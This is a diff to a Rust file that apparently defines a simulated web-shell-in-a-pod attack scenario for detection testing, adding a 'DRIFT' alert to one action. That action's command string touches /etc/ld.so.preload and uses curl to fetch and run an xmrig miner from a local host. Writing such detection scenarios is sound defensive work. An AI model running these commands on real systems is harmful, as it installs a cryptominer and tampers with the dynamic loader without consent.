@@ -1,6 +1,6 @@
 //! Microsoft's simulation: a web shell in a pod is told to look around, and what comes after.
 
-use super::{API, Action, By, COMMAND, ROOT, SCAN, SHELL};
+use super::{API, Action, By, COMMAND, DRIFT, ROOT, SCAN, SHELL};
 
 pub(super) const ACTIONS: &[Action] = &[
     Action {
@@ -55,7 +55,7 @@ pub(super) const ACTIONS: &[Action] = &[
             touch /etc/ld.so.preload
             curl -s http://127.0.0.1/miner -o xmrig && chmod +x xmrig && ./xmrig",
         ),
-        raises: &[(SHELL, "High"), (COMMAND, "Medium"), (ROOT, "Medium")],
+        raises: &[(SHELL, "High"), (DRIFT, "High"), (COMMAND, "Medium"), (ROOT, "Medium")],
         because: "",
     },
 ];
